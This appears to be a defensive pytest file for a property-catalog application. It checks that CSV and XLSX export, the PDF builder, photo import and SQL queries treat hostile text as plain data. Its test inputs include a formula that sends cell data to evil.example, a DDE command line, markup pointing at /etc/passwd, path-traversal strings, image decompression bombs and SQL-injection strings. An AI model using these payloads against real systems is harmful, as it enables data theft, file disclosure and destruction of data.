"""Hostile text: it is only ever data.

- Formula-like text is neutralised in CSV and XLSX exports and comes back unchanged on import.
- Reportlab markup in any field prints literally and never makes the PDF builder open a file.
- Photo paths resolve only under the imported file's folder; decompression bombs are refused.
- No SQL is built from user text: with hostile strings everywhere, SQLite's trace of every statement
  it ran shows them only inside bound values, never as SQL.
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from PIL import Image

from guide.catalog.bundled import data_folder
from guide.catalog.errors import InvalidInput, NotFoundError, ValidationFailed
from guide.catalog.exporter import export_file
from guide.catalog.importer import import_file, plan_import
from guide.catalog.photos import inspect_image
from guide.catalog.search import Filters
from guide.catalog.store import Catalog
from guide.commands.catalog_commands import search_results
from tests.data.make_corpus import png

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "+7 701 000 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "'=1+1",
    "''@x",
    "\t=cmd|' /C calc'!A0",
]


def _towns_and_zones() -> Catalog:
    """An empty catalog with the bundled towns and zones, to import exports into."""
    catalog = Catalog.memory()
    for kind in ("towns", "zones"):
        import_file(catalog, kind, data_folder() / f"{kind}.json", backup=False)
    return catalog


def _add_hostile_premises(catalog: Catalog, texts: list[str]) -> list[int]:
    ids = []
    for text in texts:
        ids.append(
            catalog.insert(
                "premises",
                {
                    "town": "temirtau",
                    "kind": "office",
                    "floor_area_m2": 10,
                    "title": text,
                    "owner": text,
                    "description": f"{text}\nвторая строка",
                    "contact": text,
                },
            )
        )
    return ids


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_text_is_neutralised_on_export_and_round_trips(tmp_path: Path, suffix: str) -> None:
    source = _towns_and_zones()
    ids = _add_hostile_premises(source, FORMULAS)
    stored = {i: source.require("premises", i)["title"] for i in ids}
    path = tmp_path / f"premises{suffix}"
    export_file(source, "premises", path)

    if suffix == ".csv":
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
        header, cells = rows[0], [c for row in rows[1:] for c in row]
    else:
        sheet = load_workbook(path).worksheets[0]  # formulas as written, not computed
        header = [c.value for c in sheet[1]]
        raw = [c for row in sheet.iter_rows(min_row=2) for c in row]
        assert all(c.data_type != "f" for c in raw), [c.value for c in raw if c.data_type == "f"]
        cells = [c.value for c in raw if isinstance(c.value, str)]
    title = header.index("title")
    for cell in cells:
        # Nothing a spreadsheet would run: every text starts with something harmless.
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + FORMULAS[0] in cells and title >= 0

    target = _towns_and_zones()
    result = import_file(target, "premises", path, backup=False)
    assert result.added == len(ids)
    for record_id, text in stored.items():
        back = target.require("premises", record_id)
        assert back["title"] == text
        assert back["owner"] == text
        assert back["description"] == f"{text}\nвторая строка"


_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
    min_size=1,
    max_size=40,
).filter(lambda t: t == t.strip() and bool(t))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    texts=st.lists(
        st.one_of(_TEXT, st.sampled_from(["=", "+", "-", "@", "'"]).flatmap(lambda c: _TEXT.map(lambda t: c + t))),
        min_size=1,
        max_size=4,
    )
)
def test_any_text_survives_export_then_import(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    folder = tmp_path_factory.mktemp("roundtrip")
    source = _towns_and_zones()
    ids = _add_hostile_premises(source, texts)
    for suffix in (".csv", ".xlsx"):
        path = folder / f"premises{suffix}"
        export_file(source, "premises", path)
        target = _towns_and_zones()
        import_file(target, "premises", path, backup=False)
        for record_id, text in zip(ids, texts, strict=True):
            assert target.require("premises", record_id)["title"] == text, suffix


# -- the PDF ---------------------------------------------------------------------------

MARKUP = [
    '<img src="{canary}" width="200" height="200"/>',
    '<img src="/etc/passwd"/>',
    '<font name="Courier" size="40" color="red">шрифт</font>',
    "&bogus; &amp;amp; &#0; &#x110000;",
    "<b>жирный <i>",
    '<a href="file:///etc/passwd">ссылка</a>',
    "<para><br/></para>]]><![CDATA[x]]>",
    "ТОО «A&B» <Сервис>",
]


class _FileOpens:
    """Records every file this process opens, through Python's audit hooks (they can't be removed,
    so the hook stays installed and records only while ``watching``)."""

    def __init__(self) -> None:
        self.watching = False
        self.paths: list[str] = []
        sys.addaudithook(self._hook)

    def _hook(self, event: str, args: tuple[Any, ...]) -> None:
        if self.watching and event == "open" and isinstance(args[0], str | bytes | Path):
            self.paths.append(str(args[0]))

    def __iter__(self) -> Iterator[str]:
        return iter(self.paths)


_OPENS = _FileOpens()


def _pdf_text(path: Path) -> str:
    from pypdf import PdfReader

    return "".join("".join(page.extract_text().split()) for page in PdfReader(path).pages)


def test_markup_in_any_field_prints_literally_and_loads_nothing(tmp_path: Path, catalog: Catalog) -> None:
    pytest.importorskip("guide.pdf.builder")
    from guide.pdf.builder import build_guide

    canary = tmp_path / "canary.png"
    Image.new("RGB", (7, 13), (255, 0, 0)).save(canary)
    texts = [m.format(canary=canary) for m in MARKUP]
    title = " ".join(texts[:4])
    premise = catalog.insert(
        "premises",
        {
            "town": "temirtau",
            "kind": "warehouse",
            "floor_area_m2": 100,
            "title": title,
            "title_en": title,
            "owner": texts[4],
            "address": texts[5],
            "description": "\n".join(texts),
            "contact": texts[7],
            "akimat_commitment": texts[6],
            "missing_infrastructure": "gas",
            "source": texts[3],
        },
    )
    project = catalog.insert(
        "projects",
        {"town": "temirtau", "kind": "investment", "title": texts[1], "initiator": texts[7], "description": texts[0]},
    )
    out = tmp_path / "brief.pdf"

    _OPENS.watching = True
    try:
        build_guide(catalog, out, premises=[premise], projects=[project])
    finally:
        _OPENS.watching = False

    opened = list(_OPENS)
    assert not [p for p in opened if "passwd" in p or "canary" in p], opened
    text = _pdf_text(out)
    for literal in (
        '<imgsrc="/etc/passwd"/>',
        "&bogus;",
        '<fontname="Courier"',
        "ТОО«A&B»<Сервис>",
        '<ahref="file:///etc/passwd">',
        "<b>жирный<i>",
    ):
        assert literal in text, literal
    assert "root:x:0:0" not in text
    from pypdf import PdfReader

    sizes = [
        (img.image.width, img.image.height)
        for page in PdfReader(out).pages
        for img in page.images
        if img.image is not None
    ]
    assert (7, 13) not in sizes


# -- photos ---------------------------------------------------------------------------


def _photo_csv(folder: Path, paths: str) -> Path:
    path = folder / "premises.csv"
    path.write_text(f"town,title,kind,floor_area_m2,photos\ntemirtau,Фото,office,10,{paths}\n", encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "photo",
    [
        "../outside.png",
        "/etc/passwd",
        "{outside}",
        "photos/../../outside.png",
        "photos/link-out.png",
        "link-dir/outside.png",
    ],
)
def test_photo_paths_resolve_only_under_the_files_folder(tmp_path: Path, catalog: Catalog, photo: str) -> None:
    folder = tmp_path / "import"
    (folder / "photos").mkdir(parents=True)
    outside = tmp_path / "outside.png"
    Image.new("RGB", (4, 4)).save(outside)
    (folder / "photos" / "link-out.png").symlink_to(outside)
    (folder / "link-dir").symlink_to(tmp_path)
    before = catalog.total("premises")

    plan = plan_import(catalog, "premises", _photo_csv(folder, photo.format(outside=outside)))

    assert plan.problems and all(p.row == 2 and p.column == "photos" for p in plan.problems)
    assert any("relative" in p.message or "outside" in p.message for p in plan.problems), plan.problems
    assert catalog.total("premises") == before


def test_a_photo_inside_the_folder_is_taken(tmp_path: Path, catalog: Catalog) -> None:
    (tmp_path / "photos").mkdir()
    Image.new("RGB", (5, 3), (1, 2, 3)).save(tmp_path / "photos" / "ok.png")
    import_file(catalog, "premises", _photo_csv(tmp_path, "photos/ok.png"), backup=False)
    (premise,) = catalog.where("premises", "title", "Фото")
    (photo,) = catalog.photos(premise["id"])
    assert (photo["width"], photo["height"], photo["mime"]) == (5, 3, "image/png")


@pytest.mark.parametrize("size", [(100_000, 100_000), (9_000, 9_000), (1, 2_000_000_000)])
def test_decompression_bombs_are_refused_quickly(catalog: Catalog, size: tuple[int, int]) -> None:
    bomb = png(*size)
    assert len(bomb) < 100
    started = time.monotonic()
    with pytest.raises(InvalidInput, match="too large"):
        inspect_image(bomb, "bomb.png")
    with pytest.raises(InvalidInput, match="too large"):
        catalog.add_photo(1, "bomb.png", bomb)
    assert time.monotonic() - started < 2
    assert catalog.photos(1) == []


def test_a_real_compressed_bomb_is_refused_before_decoding(catalog: Catalog) -> None:
    """A PNG that really inflates to 400 megapixels of zeros, about 400 KB compressed."""
    image = Image.new("1", (20_000, 20_000))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG", optimize=True)
    del image
    started = time.monotonic()
    with pytest.raises(InvalidInput, match="too large"):
        catalog.add_photo(1, "bomb.png", buffer.getvalue())
    assert time.monotonic() - started < 2


def test_files_that_are_not_images_are_refused(catalog: Catalog) -> None:
    for data in (b"", b"GIF89a", b"\x89PNG\r\n\x1a\n" + b"\0" * 50, b"<svg onload='alert(1)'/>", b"%PDF-1.4"):
        with pytest.raises(InvalidInput):
            catalog.add_photo(1, "x.png", data)
    assert catalog.photos(1) == []


# -- SQL ---------------------------------------------------------------------------

MARK = "zqxhostile"
HOSTILE = [
    f"{MARK}' OR '1'='1",
    f"{MARK}'; DROP TABLE premises; --",
    f'{MARK}" ; DELETE FROM towns; --',
    f"{MARK}]) ; SELECT * FROM sqlite_master --",
    f'%{MARK}_ AND NEAR( "a:b',
    f"Балқаш-{MARK} */ /*",
]
_LITERAL = re.compile(r"'(?:[^']|'')*'")


class _SqlTrace:
    """Every statement SQLite runs on a connection, as SQLite expands it (bound values inlined as literals)."""

    def __init__(self, conn: sqlite3.Connection) -> None:
        self.statements: list[str] = []
        conn.set_trace_callback(self.statements.append)

    def outside_literals(self) -> list[str]:
        """Statements where the mark shows up as SQL rather than inside a quoted value."""
        return [s for s in self.statements if MARK in _LITERAL.sub("''", s)]

    def inside_literals(self) -> int:
        return sum(MARK in s for s in self.statements)


def test_no_sql_is_built_from_user_text(tmp_path: Path, catalog: Catalog) -> None:
    trace = _SqlTrace(catalog.db.conn)

    for text in HOSTILE:
        for kind in ("premises", "projects", "suppliers", "towns", "zones", "indicators", "town_status"):
            catalog.query(kind, Filters(towns=[text], kind=text, status=text), text, order_by=text, limit=5)
            catalog.query(kind, None, text, order_by=text, descending=True)
            catalog.count(kind, Filters(min_area_m2=1, max_price_kzt=10**9), text)
            assert catalog.get(kind, text) is None
        assert catalog.where("premises", "title", text) == []
        with pytest.raises(KeyError):
            catalog.where("premises", text, "x")
        with pytest.raises(NotFoundError):
            catalog.resolve_town(text)
        search_results(catalog, text, ["premises", "projects", "suppliers", "towns"], [], "ru", limit=3)
        with pytest.raises(ValidationFailed):
            catalog.insert("premises", {"town": text, "title": text, "kind": text, "floor_area_m2": 1})

    # Writes with hostile text everywhere text is allowed.
    ids = _add_hostile_premises(catalog, HOSTILE)
    for record_id, text in zip(ids, reversed(HOSTILE), strict=True):
        catalog.update("premises", record_id, {"title": text, "address": text, "cadastral_number": text})
    town = catalog.insert(
        "towns", {"id": f"{MARK}-town", "name": HOSTILE[0], "name_kk": HOSTILE[1], "description": HOSTILE[2]}
    )
    catalog.update("towns", town, {"name_en": HOSTILE[3]})
    catalog.set_shortlisted("premises", ids, True)
    catalog.delete("premises", ids[0])
    assert catalog.query("premises", None, MARK)

    # An import with hostile headers (refused) and one with hostile values (taken as text).
    bad = tmp_path / "bad.csv"
    bad.write_text(f'town,title,kind,floor_area_m2,"{HOSTILE[1]}"\ntemirtau,a,office,1,x\n', encoding="utf-8")
    assert plan_import(catalog, "premises", bad).problems
    good = tmp_path / "good.csv"
    with good.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["town", "title", "kind", "floor_area_m2", "owner", "description"])
        for text in HOSTILE:
            writer.writerow(["Темиртау", text, "office", "5", text, text])
    import_file(catalog, "premises", good, backup=False)
    export_file(catalog, "premises", tmp_path / "out.csv", Filters(towns=["temirtau"]), MARK)

    assert trace.outside_literals() == []
    # The check saw the hostile text, as bound values: it would have seen it as SQL too.
    assert trace.inside_literals() > 50
    assert catalog.total("towns") == 7 and "premises" in catalog.db.table_names()
